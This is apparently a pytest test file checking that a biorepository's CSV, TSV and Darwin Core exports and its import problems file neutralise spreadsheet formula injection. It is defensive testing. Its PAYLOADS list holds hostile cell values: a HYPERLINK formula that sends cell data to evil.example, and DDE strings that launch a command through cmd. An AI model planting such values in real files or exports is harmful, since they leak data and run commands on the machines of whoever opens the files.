"""Formula injection (CSV injection): values a spreadsheet would run (`=HYPERLINK(...)`,
`+cmd|...`, `@SUM(...)`, `-2+3+cmd|...`) stored in records come out of every CSV/TSV export —
MIRRI, MIABIS, MCPD, the Darwin Core core file, by HTTP and by the command line, and the
problems file of an import — neutralised with a leading `'`, negative numbers staying numbers;
an exported file imported again stores the very values that were exported."""

from __future__ import annotations

import csv
import io
import re
import secrets
import zipfile

import pytest
from sqlalchemy import select

from repository.db import unit_of_work
from repository.models import Material, Seed, Strain
from tests.clients import ApiClient, CliRunner
from tests.factories import add_collection, add_material

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",  # comes back with its own quote
]
# What a spreadsheet runs: a cell starting with = + - @, tab or CR that is not a plain number.
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def runnable(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)


def strain(n: int) -> dict:
    """A strain with a payload in each free-text column of the MIRRI sheet and the core file."""
    payload = PAYLOADS[n]
    return {
        "kind": "strain",
        "accession_number": f"EVIL {n}",
        "designation": payload,
        "taxon_name": "Bacillus subtilis",
        "collector": payload,
        "origin_site": payload,
        "restrictions_on_use": payload,
        "isolation_source": payload,
        "genotype": payload,
        "remarks": payload,
        "latitude": -12.5,
        "longitude": -33.25,
        "elevation_m": -10,
    }


@pytest.fixture(scope="module")
def evil(world):
    """Strains (in API), specimens (in a biobank EVB) and seeds (in a seed bank EVS) holding
    the payloads."""
    app, _, _ = world
    with unit_of_work(app.extensions["biorepo"]) as db:
        add_collection(db, {"code": "EVB", "name": "B", "kind": "biobank"})
        add_collection(db, {"code": "EVS", "name": "S", "kind": "seed_bank"})
        add_collection(db, {"code": "EVS2", "name": "S2", "kind": "seed_bank"})
        add_collection(db, {"code": "EVC", "name": "C", "kind": "culture_collection"})
        for n, payload in enumerate(PAYLOADS):
            add_material(db, "API", strain(n))
            add_material(
                db,
                "EVB",
                {
                    "kind": "specimen",
                    "accession_number": f"EVIL {n}",
                    "designation": payload,
                    "taxon_name": "Homo sapiens",
                    "specimen_type": "serum",
                    "anatomical_site": payload,
                    "ethics_approval": payload,
                },
            )
            add_material(db, "EVS", seed(n, payload))
    return world


def seed(n: int, payload: str) -> dict:
    return {
        "kind": "seed",
        "accession_number": f"EVIL {n}",
        "designation": payload,
        "taxon_name": "Oryza sativa",
        "genus": "Oryza",
        "specific_epithet": "sativa",
        "crop_name": payload,
        "origin_site": payload,
        "ancestral_data": payload,
        "remarks": payload,
        "latitude": -12.5,
        "longitude": -33.25,
        "elevation_m": -10,
    }


def exported(client: ApiClient, token: str, fmt: str, code: str) -> bytes:
    response = client.get(f"/api/v1/exchange/exports/{fmt}?collection={code}", token=token)
    assert response.status_code == 200, response.get_json()
    return response.data


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def core_cells(archive: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        text = opened.read("occurrence.txt").decode("utf-8")
    return [line.split("\t") for line in text.splitlines()]


def assert_neutralised(rows: list[list[str]]) -> None:
    """No cell runs as a formula, every payload is there behind a `'`, and the negative
    numbers are plain numbers."""
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if runnable(cell)] == []
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert not set(PAYLOADS) & set(cells)


@pytest.mark.parametrize(
    ("fmt", "code", "read"),
    [
        ("mirri", "API", csv_cells),
        ("miabis", "EVB", csv_cells),
        ("mcpd", "EVS", csv_cells),
        ("dwca", "API", core_cells),
    ],
)
def test_http_exports_neutralise_formulas(evil, client: ApiClient, fmt, code, read):
    _, tokens, _ = evil
    rows = read(exported(client, tokens["admin"], fmt, code))
    assert_neutralised(rows)
    header = rows[0]
    if fmt in ("mcpd", "dwca"):  # numbers stay numbers
        latitude = header.index("DECLATITUDE" if fmt == "mcpd" else "decimalLatitude")
        assert "-12.5" in {row[latitude] for row in rows[1:]}
    if fmt == "mcpd":
        assert {row[header.index("ELEVATION")] for row in rows[1:]} == {"-10"}


def test_cli_exports_neutralise_formulas(evil, tmp_path, monkeypatch, runner: CliRunner):
    app, _, _ = evil
    monkeypatch.setenv("DATABASE_URL", app.config["DATABASE_URL"])
    monkeypatch.setenv("SECRET_KEY", secrets.token_urlsafe(32))
    for fmt, code, read in (
        ("mirri", "API", csv_cells),
        ("miabis", "EVB", csv_cells),
        ("mcpd", "EVS", csv_cells),
        ("dwca", "API", core_cells),
    ):
        out = tmp_path / f"{fmt}.out"
        result = runner.invoke(["export", fmt, str(out), "--collection", code])
        assert result.exit_code == 0, result.output
        assert_neutralised(read(out.read_bytes()))


def test_the_problems_file_neutralises_the_values_it_echoes(
    evil, tmp_path, monkeypatch, runner: CliRunner
):
    """A rejected row's values go to `--problems OUT.csv`: neutralised there too."""
    app, _, _ = evil
    monkeypatch.setenv("DATABASE_URL", app.config["DATABASE_URL"])
    monkeypatch.setenv("SECRET_KEY", secrets.token_urlsafe(32))
    bad = tmp_path / "bad.csv"
    with open(bad, "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["accession_number", "designation", "taxon_name", "risk_group"])
        for n, payload in enumerate(PAYLOADS):
            writer.writerow([f"BAD {n}", "x", "Bacillus subtilis", payload.lstrip("'")])
    problems = tmp_path / "problems.csv"
    result = runner.invoke(
        [
            "import",
            "csv",
            str(bad),
            "--collection",
            "API",
            "--dry-run",
            "--problems",
            str(problems),
        ],
    )
    assert result.exit_code == 1, result.output
    rows = csv_cells(problems.read_bytes())
    values = [row[rows[0].index("value")] for row in rows[1:]]
    assert len(values) == len(PAYLOADS) and [v for v in values if runnable(v)] == []
    assert "'" + PAYLOADS[0] in values


def stored(app, model: type[Material], code: str, fields: list[str]) -> list[tuple]:
    with unit_of_work(app.extensions["biorepo"], write=False) as db:
        found = db.scalars(
            select(model)
            .where(model.collection.has(code=code), model.accession_number.like("EVIL %"))
            .order_by(model.accession_number)
        )
        return [tuple(getattr(m, f) for f in fields) for m in found]


def imported(client: ApiClient, token: str, fmt: str, code: str, data: bytes, name: str) -> dict:
    response = client.post(
        "/api/v1/exchange/imports",
        data={"file": (io.BytesIO(data), name), "format": fmt, "collection": code},
        token=token,
        content_type="multipart/form-data",
    )
    assert response.status_code == 200, response.get_json()
    return response.get_json()


STRAIN_FIELDS = ["designation", "collector", "origin_site", "restrictions_on_use", "remarks"]
STRAIN_FIELDS += ["isolation_source", "genotype", "latitude", "longitude", "elevation_m"]
SEED_FIELDS = ["designation", "crop_name", "origin_site", "ancestral_data", "remarks"]
SEED_FIELDS += ["latitude", "longitude", "elevation_m"]


@pytest.mark.parametrize(
    ("fmt", "source", "target", "model", "fields"),
    [
        ("mirri", "API", "OTH", Strain, STRAIN_FIELDS),
        ("dwca", "API", "EVC", Strain, ["designation", "collector", "origin_site"]),
        ("mcpd", "EVS", "EVS2", Seed, SEED_FIELDS),
    ],
)
def test_an_exported_file_imports_to_the_values_exported(
    evil, client: ApiClient, fmt, source, target, model, fields
):
    """Our own neutralised files round-trip: the `'` is taken off on import."""
    app, tokens, _ = evil
    data = exported(client, tokens["admin"], fmt, source)
    if fmt == "mcpd":
        data = data.replace(f",{source},".encode(), f",{target},".encode())  # INSTCODE
    name = "export.zip" if fmt == "dwca" else "export.csv"
    outcome = imported(client, tokens["admin"], fmt, target, data, name)
    assert outcome["count"] == 0, outcome["problems"]
    assert stored(app, model, target, fields) == stored(app, model, source, fields)
    assert {row[0] for row in stored(app, model, target, fields)} == set(PAYLOADS)
